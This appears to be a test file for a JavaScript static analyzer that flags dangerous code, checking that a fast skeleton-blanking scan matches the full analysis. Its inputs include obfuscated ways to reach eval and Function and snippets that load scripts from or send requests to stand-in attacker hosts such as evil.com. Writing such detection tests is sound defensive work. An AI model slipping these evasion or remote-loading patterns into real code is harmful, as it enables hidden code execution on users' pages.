// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are JavaScript sources under test.
import { describe, expect, it } from 'vitest';
import { trustedOrigins } from '../urls';
import { analyzeJs } from './analyze';
import { analyzeJsFast } from './fast';
import { blankRegions, scanSkeleton } from './skeleton';

const options = { sourceType: 'script' as const, trusted: trustedOrigins([]) };
const keys = (code: string, fast: boolean) =>
  (fast ? analyzeJsFast(code, 'a.js', options) : analyzeJs(code, 'a.js', options)).findings
    .map((f) => `${f.rule}@${f.start}`)
    .sort();

/** Unrelated, trigger-free code around the snippet so that the skeleton has something to blank. */
const filler = 'function pad(a, b) { var c = a + b; if (c > 1) { c = c * 2; } return [c, { k: c }]; }\n';

describe('skeleton blanking is exact', () => {
  it.each([
    ["function g(a) { if (a) { var k = 'ev'; } return window[k + 'al'](a); }", 1],
    ["function g(a) { let k = 'ev'; pad(a); return window[k + 'al'](a); }", 1],
    ['var e = eval; function f(s) { return e(s); }', 1],
    ["var w = window; function f(k) { return w['ev' + 'al'](k); }", 1],
    ["var w = window; function f() { return w.self['ev' + 'al'](1); }", 1],
    ["var xhr = new XMLHttpRequest(); function f() { xhr.open('GET', 'https://evil.example.net/x'); }", 1],
    ["var s = document.createElement('script'); function f() { s.src = 'https://cdn.example.com/x.js'; }", 1],
    ["const T = 'iframe'; function f() { return h(T); }", 1],
    ["function f(a) { if (a) { var fn = function () {}; } return fn.constructor('x'); }", 1],
    ["var code = 'x()'; function f(g) { code = g; } setTimeout(code);", 0],
    ["var code = 'x()'; function f(g) { other = g; } setTimeout(code);", 1],
    ["var w = window; function f() { var v = w; return v['ev' + 'al'](1); }", 1],
    ['var e = eval; function f(e) { return e(1); }', 0],
    ['var e = eval; function f(a = e) { return e(a); }', 1],
    ['var e = eval; function f({ e: a }) { return e(a); }', 1],
    ["const f = () => { return this['ev' + 'al'](1); };", 1],
    ["function m() { return this['ev' + 'al'](1); }", 0],
    ['function f() { return `${{ a: 1 }.a}`; } eval(x);', 1],
    ['function f(s) { return /[{\'"]/.test(s); } eval(x);', 1],
    ['function f(a, b) { return a / b / 2; } /* { */ eval(x); // }', 1],
    ['function f(a) { return a++ / 2; } function g() { eval(x); }', 1],
    ["const n = navigator; function f() { return n['vib' + 'rate'](1); }", 1],
    ["const t = setTimeout; function f() { t('tick()'); }", 1],
    ["var F = Function; function f() { return F.call(null, 'x'); }", 1],
    ['var G = Function; function f() { return G.prototype; }', 0],
    [`var str = '${'x'.repeat(200)}'; setTimeout(str);`, 1],
    ['switch (a) { case 1: pad(1); break; default: eval(x); }', 1],
    ["function f(a) { if (a) b(); else { var k = 'ev'; } return window[k + 'al'](); }", 1],
    // Whether `/` opens a regex: after a condition's `)` it does, after `.return` it does not.
    ['function f(a) { var k = "ev" + "al"; if (a) /"/.test(a); window[k](a); /"/; }', 1],
    ['function f(a) { var k = "ev" + "al"; while (a) /"/.test(a), window[k](a); /"/; }', 1],
    ['function f(a) { var k = "ev"; var x = a.return / 2; window[k + "al"](a); "/"; }', 1],
    ["function f(a) { var k = 'ev' + 'al'; return a(k) / window[k](a) / 2; }", 1],
    // A member name joined from pieces, through an object that is no trigger.
    ["function f(d) { var e = document; return e['create' + 'Element']('ifr' + 'ame'); }", 1],
    ["function f() { document.body['inner' + 'HTML'] = '<ifr' + 'ame>'; }", 1],
    ["function f() { return document[`${'create'}Element`]('iframe'); }", 1],
    ["function f() { return []['con' + 'structor']['con' + 'structor']('x')(); }", 1],
    // Destructuring patterns the skeleton takes for object literals still declare their names.
    // (found by the property test: the blanked pattern let `k = …` write the outer function k)
    [
      "la: { function a(a = a) { var a = () => { k.constructor('x'); };\n }\nfunction k({ a: k }) { switch (a) { case 1: { var a = a; if (k) /\"'/.test(k); k = k.return / 2 / 1; } default: a; }\nx = a / 2 / { valueOf() { a = eval; } };\nvar a = a;\n }\n }\n",
      1,
    ],
    ['function g(k) { for (const { a: k } of [k]) k = 1; } var k = Function; k("x");', 1],
    ['function g() { let [x, { a: k }] = [1, {}]; k = x; } var k = Function; k("x");', 1],
    // Non-ASCII white space and line terminators separate words and end `//` comments.
    ['function f(s) { var a = 1;\u00a0eval(s); }', 1],
    ['function f(s) {\ufeffeval(s); }', 1],
    ['function f(s) { // note\u2028eval(s); }', 1],
    ['function f(s) { // note\u2029eval(s); }', 1],
    ['function f(s) { // note\reval(s); }', 1],
    // A global object's name in a string is no reference; the binding that reads it keeps the body.
    ["var w = window; function f() { var k = 'self'; return w[k]['ev' + 'al'](1); }", 1],
    ["function f() { var k = 'self'; return this[k]; } eval(x);", 1],
    // Words spelled with escapes: each kind that can stand for a letter keeps its body.
    ['function f() { return []["\\u0063onstructor"]["\\u0063onstructor"]("x")(); }', 1],
    ['function f() { return []["\\u{63}onstructor"]["\\u{63}onstructor"]("x")(); }', 1],
    ['function f() { return []["\\x63onstructor"]["\\x63onstructor"]("x")(); }', 1],
    ['function f() { return []["\\143onstructor"]["\\143onstructor"]("x")(); }', 1],
    ['function f() { return []["\\constructor"]["\\constructor"]("x")(); }', 1],
    ['function f() { return []["\\u00e9\\n\\x00"]; } eval(x);', 1],
  ])('%s', (snippet, expected) => {
    const code = `${filler}${snippet}\n${filler}`;
    const full = keys(code, false);
    expect(full).toHaveLength(expected as number);
    expect(keys(code, true)).toEqual(full);
  });

  it('blanks bodies whose escapes cannot stand for a letter', () => {
    const code = `${filler}function t() { return /[\\u00c0-\\u024f\\d]/.test("\\u2028\\x7f\\0\\100\\\\"); }\neval(x);`;
    const skeleton = scanSkeleton(code);
    const t = code.indexOf('{ return /');
    expect(skeleton.bodies.some(([start]) => start === t + 1)).toBe(true);
    const spelled = code.replace('\\100', '\\141');
    expect(scanSkeleton(spelled).bodies.some(([start]) => start === t + 1)).toBe(false);
  });

  it('blanks trigger-free bodies, comments and long strings but keeps offsets', () => {
    const code = `${filler}/* a comment */ var s = '${'y'.repeat(100)}';\nfunction f() { return window.x; }`;
    const skeleton = scanSkeleton(code);
    expect(skeleton.bodies.length).toBeGreaterThan(0);
    expect(skeleton.inert.length).toBe(4);
    const blanked = blankRegions(code, [...skeleton.inert]);
    expect(blanked).toHaveLength(code.length);
    expect(blanked).not.toContain('a comment');
    expect(blanked).toContain('window.x');
  });

  it('finds nothing to parse in a file without any trigger', () => {
    expect(scanSkeleton('function a(b) { return b + 1; }').hasTriggers).toBe(false);
  });

  it('finds nothing to parse when the only triggers are in comments', () => {
    expect(
      scanSkeleton('/* eval(x) */ function a(b) { return b + 1; } // window.setTimeout("x")').hasTriggers,
    ).toBe(false);
  });

  it('still counts triggers in comments when the lexer lost its way (they may be code)', () => {
    expect(scanSkeleton('function a(b) { return b + 1; /* eval(x) */').hasTriggers).toBe(true);
  });

  it('finds triggers in strings, templates and regexes, not in comments', () => {
    const code = "a('eval'); b(`x${c}setTimeout`); d(/fetch/); /* Function */ // navigator";
    const at = (word: string) => code.indexOf(word);
    expect(scanSkeleton(code).triggers).toEqual([at('eval'), at('setTimeout'), at('fetch')]);
  });

  it('takes a global object’s name for a trigger only where it can be a reference', () => {
    const code = "s.top = 'top'; f(`parent ${self}`, /window/, { frames: 1 }, top);";
    const at = (word: string, from = 0) => code.indexOf(word, from);
    // A regex stays a possible reference: the lexer guesses where regexes are.
    expect(scanSkeleton(code).triggers).toEqual([at('self'), at('window'), at('top', at('frames'))]);
  });

  it('reads a regex after a comment as a regex (the comment is not the code before it)', () => {
    // Taken for a division, `/'/` would open a string and swallow the rest of the line.
    const code = "var r = [\n  // ends with a word\n  /'/, 1];\nfunction a() { b(); } eval(x);";
    const skeleton = scanSkeleton(code);
    const body = code.indexOf('{ b(); }') + 1;
    expect(skeleton.bodies).toContainEqual([body, body + 6]);
  });
});

describe('the rule snippets stay exact inside larger code', () => {
  const snippets = [
    'eval(x)',
    'window.eval(x)',
    "globalThis['ev'+'al'](x)",
    '(0, eval)(s)',
    'const e = eval; e(s)',
    'new Function("a")',
    '[].constructor.constructor("x")()',
    'Reflect.construct(Function, ["x"])',
    'setTimeout("x()", 1)',
    'const s = "x()"; setTimeout(s)',
    "document.createElement('iframe')",
    "el.innerHTML = '<iframe src=x>'",
    "import('https://evil.com/x.js')",
    'navigator.clipboard.writeText(x)',
    "document.execCommand('copy')",
    'const n = navigator; n.vibrate(100)',
    "fetch('https://evil.com/api')",
    "var x = new XMLHttpRequest(); x.open('GET', 'https://evil.com')",
  ];
  const wrappers = [
    (s: string) => s,
    (s: string) => `function outer(a) { pad(a); ${s}; return a; }`,
    (s: string) => `function outer(a) { if (a) { pad(a); } { ${s}; } }`,
    (s: string) => `var o = { m: function () { var q = 1; ${s}; return q; } };`,
    (s: string) => `class K { run(v) { pad(v); ${s}; } }`,
    (s: string) => `(() => { const z = [1, 2].map((y) => y * 2); ${s}; })();`,
  ];
  for (const snippet of snippets) {
    it(snippet, () => {
      for (const wrap of wrappers) {
        const code = `${filler}${wrap(snippet)}\n${filler}`;
        const full = keys(code, false);
        expect(full.length).toBeGreaterThanOrEqual(1);
        expect(keys(code, true)).toEqual(full);
      }
    });
  }
});

describe('declarations reached from nested functions', () => {
  it('sees a var of an enclosing function used in a nested one', () => {
    const code = `${filler}function outer(a) { var k = 'ev'; pad(a); return (function () { return window[k + 'al'](a); })(); }\n${filler}`;
    const full = keys(code, false);
    expect(full).toHaveLength(1);
    expect(keys(code, true)).toEqual(full);
  });
});

describe('object literals and class bodies', () => {
  it.each([
    ["const o = { k: 'ev', n: 1 }; function f() { return window[o.k + 'al'](1); }", 1],
    ["function f() { const o = { k: 'ev' }; return window[o.k + 'al'](1); }", 1],
    ["const { k } = { k: 'x' }; window[k + 'al'](1);", 0],
    ["function f(a) { a: { var k = 'ev'; } return window[k + 'al'](1); }", 1],
    ["class A { x = 1; m() { return 2; } } const o = { a: [1, 2], b: { c: 'd' } }; eval(o.b.c);", 1],
    ["const p = { run: eval }; p.run('1');", 2], // eval stored in the table, then called through it
    ["var cfg = { a: 1 }; function g() { cfg = window; } cfg['ev' + 'al'](1);", 0],
    // Found by fast.property.test.ts: `t` is first evaluated (and cached) at a site without a
    // trigger; what it depended on must still count for the timer site.
    [
      "function a(a) { var a = { k: 'x', m() { (function () { h(t); setTimeout(t); eval(1); })(a); } };\nvar t = w.k; }\nvar w = { k: 'ev' };",
      2,
    ],
  ])('%s', (snippet, expected) => {
    const code = `${filler}${snippet}\n${filler}`;
    const full = keys(code, false);
    expect(full).toHaveLength(expected as number);
    expect(keys(code, true)).toEqual(full);
  });
});
